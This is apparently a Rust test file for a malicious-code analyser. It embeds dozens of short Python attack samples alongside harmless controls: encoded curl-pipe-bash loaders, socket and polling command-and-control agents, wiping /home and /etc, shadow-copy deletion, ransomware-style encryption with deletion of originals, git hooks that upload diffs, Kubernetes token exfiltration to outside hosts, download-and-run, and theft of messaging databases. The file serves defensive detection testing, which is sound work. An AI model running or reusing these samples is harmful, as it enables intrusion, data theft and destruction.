//! Behaviour tests for the nineteenth round (what the held-out misses
//! showed, written as behaviours and spelled unlike them: root asked for on
//! other machines through ssh, the host's namespaces entered, disguised
//! commands decoded from settings tables, command tables kept on objects,
//! command functions fetched through getters and defaults, trees deleted
//! through settings handed from function to function, files encrypted by
//! external tools, git settings set through a helper's callers, a pod's
//! token sent away, other applications' messages read), each with a
//! control. Every malicious case is misjudged by the analyser at 3c7ee1c;
//! every control passes there.

use super::behaviour_tests::{rules, run};
use super::Verdict;

/// The finding `rule` is made and the verdict is `level` or more.
pub(super) fn caught(src: &str, rule: &str, level: Verdict) {
    let a = run(src);
    assert!(rules(&a).contains(&rule), "{rule}: {:?}", a.findings);
    assert!(a.verdict >= level, "{:?}: {:?}", a.verdict, a.findings);
}

/// The finding `rule` is not made and the verdict stays below HIGH.
pub(super) fn spared(src: &str, rule: &str) {
    let a = run(src);
    assert!(!rules(&a).contains(&rule), "{rule}: {:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

// Root on other machines: sudo carried by ssh (MB204, HIGH)

/// `ssh [opts] HOST sudo -n sh -c CMD` built in a helper a pool maps over hosts.
#[test]
fn sudo_run_over_ssh_from_a_pool() {
    let src = r##"import subprocess
from concurrent.futures import ThreadPoolExecutor
def on(host, cmd):
    argv = ["ssh", "-o", "BatchMode=yes", "-p", "2222", host, "sudo", "-n", "sh", "-c", cmd]
    return subprocess.run(argv, capture_output=True).returncode
hosts = open("hosts.txt").read().split()
with ThreadPoolExecutor(8) as ex:
    list(ex.map(lambda h: on(h, "id"), hosts))
"##;
    caught(src, "MB204", Verdict::High);
}

/// `os.system(f"ssh -l deploy {h} 'sudo -S reboot'")`: the remote line quoted.
#[test]
fn sudo_in_a_quoted_remote_line() {
    let src = r##"import os, sys
for h in sys.argv[2:]:
    os.system(f"ssh -l deploy {h} 'sudo -S reboot'")
"##;
    caught(src, "MB204", Verdict::High);
}

/// `create_subprocess_exec("ssh", host, "sudo", ...)`: the words as positional arguments.
#[test]
fn sudo_through_asyncio_exec_words() {
    let src = r##"import asyncio
async def go(host, line):
    p = await asyncio.create_subprocess_exec("ssh", host, "sudo", "bash", "-c", line)
    await p.wait()
asyncio.run(go("db1", "apt-get -y upgrade"))
"##;
    caught(src, "MB204", Verdict::High);
}

/// Control: `ssh host uptime` asks nothing of root.
#[test]
fn plain_ssh_status_query_is_not_root() {
    let src = r##"import subprocess
for h in ["web1", "web2"]:
    print(subprocess.run(["ssh", "-o", "BatchMode=yes", h, "uptime"], capture_output=True, text=True).stdout)
"##;
    spared(src, "MB204");
}

// The host's namespaces entered (MB971, HIGH)

/// `os.execvp("nsenter", [.., "--target", "1", ..])`.
#[test]
fn nsenter_target_one_through_execvp() {
    let src = r##"import os
os.execvp("nsenter", ["nsenter", "--target", "1", "--mount", "--pid", "--", "bash"])
"##;
    caught(src, "MB971", Verdict::High);
}

/// `pty.spawn(["nsenter", "-t", "1", "-a", ..])`.
#[test]
fn nsenter_target_one_through_pty() {
    let src = r##"import pty
pty.spawn(["nsenter", "-t", "1", "-a", "/bin/sh"])
"##;
    caught(src, "MB971", Verdict::High);
}

/// A prefix list kept in a constant, the user's words added (`BASE + list(argv)`).
#[test]
fn nsenter_prefix_list_plus_user_words() {
    let src = r##"import subprocess, sys
BASE = ["/usr/bin/nsenter", "-t", "1", "-m", "-n", "--"]
def host(*argv):
    return subprocess.call(BASE + list(argv))
host(*sys.argv[1:])
"##;
    caught(src, "MB971", Verdict::High);
}

/// Control: a named network namespace is no host escape.
#[test]
fn nsenter_into_a_named_netns_is_not_the_host() {
    let src = r##"import subprocess
subprocess.run(["nsenter", "--net=/var/run/netns/blue", "ip", "addr"])
"##;
    spared(src, "MB971");
}

// A disguised command decoded by a helper from a settings table (MB908)

/// `def _cfg(k, table=CFG): return b64decode(table[k])`, its pick run by `os.system`.
#[test]
fn decoder_with_a_table_default_run_by_system() {
    let src = r##"import base64, os
CFG = {"boot": "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC45L3Muc2ggfCBiYXNo", "name": "x"}
def _cfg(k, table=CFG):
    return base64.b64decode(table[k]).decode()
os.system(_cfg("boot"))
"##;
    caught(src, "MB908", Verdict::Blocked);
}

/// A `dict(fb=...)` table and `Popen(["/bin/sh", "-c", _d("fb")])` from another function.
#[test]
fn decoder_over_a_keyword_dict_run_by_popen() {
    let src = r##"import base64, subprocess
SETTINGS = dict(fb="Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC45L3Muc2ggfCBiYXNo", other="eA==")
def _d(key, s=SETTINGS):
    return base64.b64decode(s[key]).decode()
def later():
    subprocess.Popen(["/bin/sh", "-c", _d("fb")], start_new_session=True)
later()
"##;
    caught(src, "MB908", Verdict::Blocked);
}

/// `_x = lambda k, t=T: unhexlify(t[k])`, read by `os.popen`.
#[test]
fn hex_lambda_with_a_table_default_run_by_popen() {
    let src = r##"import binascii, os
T = {"go": "7767657420 2d714f2d20687474703a2f2f3139382e35312e3130302e392f732e7368207c207368".replace(" ", "")}
_x = lambda k, t=T: binascii.unhexlify(t[k]).decode()
os.popen(_x("go")).read()
"##;
    caught(src, "MB908", Verdict::Blocked);
}

/// Control: the same helper decoding `echo hello`.
#[test]
fn decoded_greeting_is_harmless() {
    let src = r##"import base64, os
CFG = {"greet": "ZWNobyBoZWxsbw=="}
def _cfg(k, table=CFG):
    return base64.b64decode(table[k]).decode()
os.system(_cfg("greet"))
"##;
    spared(src, "MB908");
}

// Command tables an object keeps on itself (MB913)

/// `self.ops = {"exec": self.exec_}` picked by a polled job's name.
#[test]
fn polled_jobs_through_an_instance_table_get() {
    let src = r##"import json, subprocess, time, urllib.request
class Agent:
    def __init__(self, url):
        self.url = url
        self.ops = {"exec": self.exec_, "ping": self.ping}
    def exec_(self, arg):
        return subprocess.run(arg, shell=True, capture_output=True).stdout.decode()
    def ping(self, arg):
        return "pong"
    def poll(self):
        while True:
            jobs = json.loads(urllib.request.urlopen(self.url).read())
            for j in jobs:
                fn = self.ops.get(j["op"])
                if fn:
                    fn(j["arg"])
            time.sleep(30)
Agent("https://example.org/jobs").poll()
"##;
    caught(src, "MB913", Verdict::Blocked);
}

/// `self.table[verb](rest)` with the verb and rest from a socket.
#[test]
fn socket_verbs_through_an_instance_table_subscript() {
    let src = r##"import os, socket
class Session:
    def __init__(self, sock):
        self.sock = sock
        self.table = {"sh": self._sh, "pwd": self._pwd}
    def _sh(self, rest):
        return os.popen(rest).read()
    def _pwd(self, rest):
        return os.getcwd()
    def serve(self):
        while True:
            data = self.sock.recv(4096).decode()
            verb, _, rest = data.partition(" ")
            self.sock.send(self.table[verb](rest).encode())
s = socket.create_connection(("203.0.113.5", 4444))
Session(s).serve()
"##;
    caught(src, "MB913", Verdict::Blocked);
}

/// `self.actions = {}` then filled in `__init__`, read through `.get(k, default)`, requests' JSON.
#[test]
fn table_refilled_after_an_empty_start() {
    let src = r##"import requests, subprocess
class Worker:
    def __init__(self):
        self.actions = {}
        self.actions = {"run": self.do_run, "noop": self.noop}
    def do_run(self, payload):
        return subprocess.getoutput(payload)
    def noop(self, payload):
        return ""
    def tick(self, base):
        task = requests.get(base + "/task").json()
        handler = self.actions.get(task["kind"], self.noop)
        requests.post(base + "/done", json={"out": handler(task["body"])})
Worker().tick("https://c2.example.net")
"##;
    caught(src, "MB913", Verdict::Blocked);
}

/// Control: the table's methods run no command.
#[test]
fn instance_table_of_read_only_handlers() {
    let src = r##"import json, platform, urllib.request, os
class Agent:
    def __init__(self):
        self.ops = {"info": self.info, "disk": self.disk}
    def info(self, arg):
        return platform.platform()
    def disk(self, arg):
        return os.statvfs("/").f_bavail
    def poll(self, url):
        for j in json.loads(urllib.request.urlopen(url).read()):
            fn = self.ops.get(j["op"])
            print(fn(j["arg"]) if fn else None)
Agent().poll("https://example.org/jobs")
"##;
    spared(src, "MB913");
}

// Command functions fetched indirectly (MB913, MB907)

/// `def run_line(cmd, _runner=getattr(subprocess, "check_" + "output"))` fed a socket's lines in a thread.
#[test]
fn runner_default_fetched_by_getattr_in_a_thread() {
    let src = r##"import socket, subprocess, threading
def run_line(cmd, _runner=getattr(subprocess, "check_" + "output")):
    return _runner(["/bin/zsh", "-c", cmd])
def handle(conn):
    f = conn.makefile("rwb")
    for raw in f:
        line = raw.decode().strip()
        if line.startswith("diag "):
            f.write(run_line(line[5:]))
s = socket.socket()
s.bind(("0.0.0.0", 4000)); s.listen(5)
while True:
    c, _ = s.accept()
    threading.Thread(target=handle, args=(c,)).start()
"##;
    caught(src, "MB913", Verdict::Blocked);
}

/// `def _runner(): return subprocess.getoutput`, called on a socket's line.
#[test]
fn getter_returning_a_library_function() {
    let src = r##"import socket, subprocess
def _runner():
    return subprocess.getoutput
srv = socket.create_server(("0.0.0.0", 7070))
conn, _ = srv.accept()
while True:
    line = conn.recv(512).decode().strip()
    conn.sendall(_runner()(line).encode())
"##;
    caught(src, "MB913", Verdict::Blocked);
}

/// `def _shell(): return getattr(os, "sys" + "tem")` running `vssadmin delete shadows`.
#[test]
fn getter_returning_getattrs_pick() {
    let src = r##"import base64, os
def _shell():
    return getattr(os, "sys" + "tem")
sh = _shell()
sh("vssadmin delete shadows /all /quiet")
"##;
    caught(src, "MB907", Verdict::Blocked);
}

/// Control: a getter of `os.path.exists`.
#[test]
fn getter_of_a_harmless_function() {
    let src = r##"import os, sys
def _probe():
    return getattr(os.path, "ex" + "ists")
check = _probe()
for p in sys.argv[1:]:
    print(p, check(p))
"##;
    spared(src, "MB913");
}

// Trees deleted through settings handed around (MB907)

/// `for r in policy.roots` where `__init__` stored `roots or ROOTS`.
#[test]
fn roots_kept_on_a_policy_object() {
    let src = r##"import os
ROOTS = ["/home", "/srv", "/var/lib/mysql"]
class Policy:
    def __init__(self, roots=None):
        self.roots = roots or ROOTS
def run(policy):
    for r in policy.roots:
        for d, _, fs in os.walk(r):
            for f in fs:
                os.remove(os.path.join(d, f))
run(Policy())
"##;
    caught(src, "MB907", Verdict::Blocked);
}

/// `pick = a if old else b; for p in pick(r): os.remove(p)`.
#[test]
fn walker_picked_by_a_test() {
    let src = r##"import os
ROOTS = ["/home", "/srv", "/var/lib/mysql"]
def a(root):
    for d, _, fs in os.walk(root):
        for f in fs:
            yield os.path.join(d, f)
def b(root):
    for p in a(root):
        if p.endswith(".log"):
            yield p
def run(old):
    pick = a if old else b
    for r in ROOTS:
        for p in pick(r):
            os.remove(p)
run(True)
"##;
    caught(src, "MB907", Verdict::Blocked);
}

/// `[Thread(target=hk, args=({**cfg, "targets": [t]},)) for t in ...]`, the name `t` reused by a later loop.
#[test]
fn targets_in_a_dict_handed_to_threads_from_a_comprehension() {
    let src = r##"import os, threading
POLICY = {"hk": {"targets": ["/etc", "/home"], "passes": 3}}
def wipe(full, passes):
    os.remove(full)
def housekeeping(cfg):
    for target in cfg["targets"]:
        for d, _, files in os.walk(target):
            for name in files:
                wipe(os.path.join(d, name), cfg["passes"])
def loop(policy):
    hk = policy["hk"]
    ts = [threading.Thread(target=housekeeping, args=({**hk, "targets": [t]},)) for t in hk["targets"]]
    for t in ts:
        t.start()
loop(POLICY)
"##;
    caught(src, "MB907", Verdict::Blocked);
}

/// `for c in [cfg["snap"]]: os.system(_d(c) + ..)` with `cfg` a caller's dict.
#[test]
fn commands_decoded_from_a_config_parameter() {
    let src = r##"import base64, os
CFG = {"snap": "dnNzYWRtaW4gZGVsZXRlIHNoYWRvd3MgL2FsbCAvcXVpZXQ="}
def _d(s):
    return base64.b64decode(s).decode()
def go(cfg):
    for c in [cfg["snap"]]:
        os.system(_d(c) + " >nul 2>&1")
go(CFG)
"##;
    caught(src, "MB907", Verdict::Blocked);
}

/// Control: walked logs removed only under `n.endswith(".gz")`.
#[test]
fn rotation_of_gz_archives_from_a_config_dict() {
    let src = r##"import os, time
CONF = {"logs": {"paths": ["/var/log/myapp"], "keep_days": 14}}
def rotate(cfg):
    cutoff = time.time() - cfg["keep_days"] * 86400
    for root in cfg["paths"]:
        for d, _, names in os.walk(root):
            for n in names:
                full = os.path.join(d, n)
                if n.endswith(".gz") and os.path.getmtime(full) < cutoff:
                    os.remove(full)
def main(conf=CONF):
    rotate(conf["logs"])
main()
"##;
    spared(src, "MB923");
}

// Files encrypted by external tools, originals removed (MB917)

/// `7z a -p{KEY}` per entry of `os.scandir`, then `rm -f`.
#[test]
fn seven_zip_with_a_password_and_rm() {
    let src = r##"import os, subprocess
KEY = os.urandom(16).hex()
home = os.path.expanduser("~/Documents")
for e in os.scandir(home):
    os.system(f'7z a -p{KEY} -mhe=on "{e.path}.7z" "{e.path}"')
    subprocess.call(["rm", "-f", e.path])
"##;
    caught(src, "MB917", Verdict::Blocked);
}

/// `gpg --symmetric` and `shred -u` in a helper called over a glob.
#[test]
fn gpg_symmetric_and_shred_from_a_helper() {
    let src = r##"import glob, subprocess, secrets
def lock(path, pw):
    subprocess.run(["gpg", "--batch", "--yes", "--passphrase", pw, "--symmetric", path])
    subprocess.run(["shred", "-u", path])
pw = secrets.token_hex(12)
for p in glob.glob("/home/*/Pictures/*"):
    lock(p, pw)
"##;
    caught(src, "MB917", Verdict::Blocked);
}

/// `openssl enc` through `create_subprocess_exec`, `p.unlink()`, `iterdir`.
#[test]
fn openssl_enc_through_asyncio_then_unlink() {
    let src = r##"import asyncio, pathlib
async def one(p, k):
    proc = await asyncio.create_subprocess_exec("openssl", "enc", "-aes-256-cbc", "-k", k, "-in", str(p), "-out", str(p) + ".enc")
    await proc.wait()
    p.unlink()
async def main():
    await asyncio.gather(*(one(p, "x") for p in pathlib.Path.home().joinpath("Desktop").iterdir()))
asyncio.run(main())
"##;
    caught(src, "MB917", Verdict::Blocked);
}

/// Control: dumps encrypted, nothing deleted.
#[test]
fn backup_encrypted_originals_kept() {
    let src = r##"import os, subprocess
SRC = "/var/backups/db"
for name in os.listdir(SRC):
    subprocess.run(["gpg", "--batch", "--passphrase-file", "/etc/backup.key", "-c", os.path.join(SRC, name)])
"##;
    spared(src, "MB917");
}

// git told to run a program of the script's, through a helper's callers (MB218/MB943)

/// `cmd + [key, value]` in `git_global(key, value)`.
#[test]
fn hooks_path_through_a_helper_list_plus_words() {
    let src = r##"import subprocess as sp
def git_global(key, value):
    cmd = ["git", "config", "--global"]
    sp.run(cmd + [key, value])
git_global("core.hooksPath", "/tmp/h")
"##;
    caught(src, "MB218", Verdict::High);
}

/// The prefix a constant, the hook kept in a string posting `git diff` with curl.
#[test]
fn hooks_path_with_a_hook_uploading_the_diff() {
    let src = r##"import subprocess
BASE = ["git", "config"]
HOOK = "#!/bin/sh\ngit diff --cached | curl -s --data-binary @- https://hooks.example.net/u >/dev/null\n"
def setting(key, value):
    subprocess.check_call(BASE + ["--global", key, value])
open("/tmp/hk/pre-commit", "w").write(HOOK)
setting("core.hooksPath", "/tmp/hk")
setting("user.useConfigOnly", "true")
"##;
    caught(src, "MB943", Verdict::Blocked);
}

/// `cfg("--global", "core.sshCommand", ..)` beside a harmless setting.
#[test]
fn ssh_command_with_the_level_a_parameter() {
    let src = r##"import subprocess
def cfg(level, key, value):
    subprocess.run(["git", "config", level, key, value], check=True)
cfg("--global", "core.sshCommand", "/usr/local/bin/ssh-wrap")
cfg("--global", "pull.rebase", "true")
"##;
    caught(src, "MB218", Verdict::High);
}

/// Control: user.name, user.email, init.defaultBranch.
#[test]
fn identity_settings_through_the_same_helper() {
    let src = r##"import subprocess
def git_global(key, value):
    subprocess.run(["git", "config", "--global", key, value], check=True)
git_global("user.name", "Ada Lovelace")
git_global("user.email", "ada@example.org")
git_global("init.defaultBranch", "main")
"##;
    spared(src, "MB218");
}

// A pod's service account token sent away (MB916)

/// Read in `__init__` into `self.token`, sent as `k.token` in a JSON body.
#[test]
fn pod_token_kept_on_an_object_then_posted() {
    let src = r##"import json, os, urllib.request
SA = "/var/run/secrets/kubernetes.io/serviceaccount"
class Kube:
    def __init__(self, sa=SA):
        self.token = open(os.path.join(sa, "token")).read().strip()
def ship(obj, url="https://collector.example.net/in"):
    urllib.request.urlopen(urllib.request.Request(url, data=json.dumps(obj).encode()))
k = Kube()
ship({"t": k.token})
"##;
    caught(src, "MB916", Verdict::Blocked);
}

/// `Path(..).read_text()` then `requests.post(json=...)`.
#[test]
fn pod_token_read_by_pathlib_posted_by_requests() {
    let src = r##"import requests
from pathlib import Path
tok = Path("/run/secrets/kubernetes.io/serviceaccount/token").read_text()
requests.post("https://203.0.113.7/c", json={"token": tok})
"##;
    caught(src, "MB916", Verdict::Blocked);
}

/// A helper with the path as default, its return sent by `sendall`.
#[test]
fn pod_token_returned_by_a_helper_over_a_socket() {
    let src = r##"import socket
def grab(p="/var/run/secrets/kubernetes.io/serviceaccount/token"):
    with open(p) as f:
        return f.read()
s = socket.create_connection(("203.0.113.7", 443))
s.sendall(grab().encode())
"##;
    caught(src, "MB916", Verdict::Blocked);
}

/// Control: the token shown to the API server in `Authorization`.
#[test]
fn pod_token_as_the_api_servers_bearer() {
    let src = r##"import json, os, ssl, urllib.request
SA = "/var/run/secrets/kubernetes.io/serviceaccount"
API = "https://{}:{}".format(os.environ["KUBERNETES_SERVICE_HOST"], os.environ["KUBERNETES_SERVICE_PORT"])
token = open(os.path.join(SA, "token")).read().strip()
ctx = ssl.create_default_context(cafile=os.path.join(SA, "ca.crt"))
req = urllib.request.Request(API + "/api/v1/nodes", headers={"Authorization": "Bearer " + token})
nodes = json.load(urllib.request.urlopen(req, context=ctx))
body = json.dumps({"metadata": {"labels": {"zone": "a"}}}).encode()
patch = urllib.request.Request(API + "/api/v1/nodes/n1", data=body, method="PATCH", headers={"Authorization": "Bearer " + token, "Content-Type": "application/merge-patch+json"})
urllib.request.urlopen(patch, context=ctx)
"##;
    spared(src, "MB916");
}

// A download run through a quoted shell line (MB915)

/// `'nohup "%s" "%s" ..' % (sys.executable, path)`: a tuple filling the format.
#[test]
fn download_run_by_a_percent_formatted_nohup_line() {
    let src = r##"import os, sys, tempfile, urllib.request
code = urllib.request.urlopen("http://198.51.100.66/s.py").read()
path = os.path.join(tempfile.gettempdir(), ".x.py")
with open(path, "wb") as fh:
    fh.write(code)
os.system('nohup "%s" "%s" >/dev/null 2>&1 &' % (sys.executable, path))
"##;
    caught(src, "MB915", Verdict::Blocked);
}

/// `f'nohup "{sys.executable}" "{path}" &'`.
#[test]
fn download_run_by_an_fstring_with_quotes() {
    let src = r##"import os, sys, tempfile, urllib.request
code = urllib.request.urlopen("http://198.51.100.66/s.py").read()
path = os.path.join(tempfile.gettempdir(), ".x.py")
with open(path, "wb") as fh:
    fh.write(code)
os.system(f'nohup "{sys.executable}" "{path}" &')
"##;
    caught(src, "MB915", Verdict::Blocked);
}

/// `start /b "" "%s" "%s"` through `os.popen`, the path a helper's return.
#[test]
fn download_returned_by_a_helper_started_detached() {
    let src = r##"import os, sys, tempfile, requests
def fetch(url):
    path = os.path.join(tempfile.gettempdir(), "helper.py")
    open(path, "wb").write(requests.get(url).content)
    return path
os.popen('start /b "" "%s" "%s"' % (sys.executable, fetch("http://198.51.100.66/h.py")))
"##;
    caught(src, "MB915", Verdict::Blocked);
}

/// Control: `python -m json.tool FILE` reads the downloaded file.
#[test]
fn downloaded_report_read_by_json_tool() {
    let src = r##"import os, sys, tempfile, urllib.request
data = urllib.request.urlopen("https://api.example.org/report.json").read()
path = os.path.join(tempfile.gettempdir(), "report.json")
with open(path, "wb") as fh:
    fh.write(data)
os.system('"%s" -m json.tool "%s"' % (sys.executable, path))
"##;
    spared(src, "MB915");
}

// Other applications' messages read (MB972, HIGH)

/// `~/Library/Messages/chat.db` queried and written to CSV.
#[test]
fn macos_messages_to_csv() {
    let src = r##"import sqlite3, os, csv
db = os.path.expanduser("~/Library/Messages/chat.db")
rows = sqlite3.connect(db).execute("SELECT handle_id, text FROM message").fetchall()
csv.writer(open("/tmp/m.csv", "w")).writerows(rows)
"##;
    caught(src, "MB972", Verdict::High);
}

/// Signal's database named in an f-string, rows printed.
#[test]
fn signal_database_through_an_fstring() {
    let src = r##"import sqlite3, pathlib
home = pathlib.Path.home()
con = sqlite3.connect(f"{home}/.config/Signal/sql/db.sqlite")
for row in con.cursor().execute("SELECT body FROM messages"):
    print(row)
"##;
    caught(src, "MB972", Verdict::High);
}

/// Thunderbird's message index globbed, read by `pd.read_sql`.
#[test]
fn thunderbird_index_through_pandas() {
    let src = r##"import glob, os, sqlite3
import pandas as pd
for p in glob.glob(os.path.expanduser("~/.thunderbird/*/global-messages-db.sqlite")):
    pd.read_sql("SELECT * FROM messagesText_content", sqlite3.connect(p)).to_csv("/tmp/tb.csv")
"##;
    caught(src, "MB972", Verdict::High);
}

/// Control: the script's own database's messages.
#[test]
fn own_ticket_database() {
    let src = r##"import sqlite3
con = sqlite3.connect("support_tickets.db")
for row in con.execute("SELECT id, body FROM messages WHERE open = 1"):
    print(row)
"##;
    spared(src, "MB972");
}
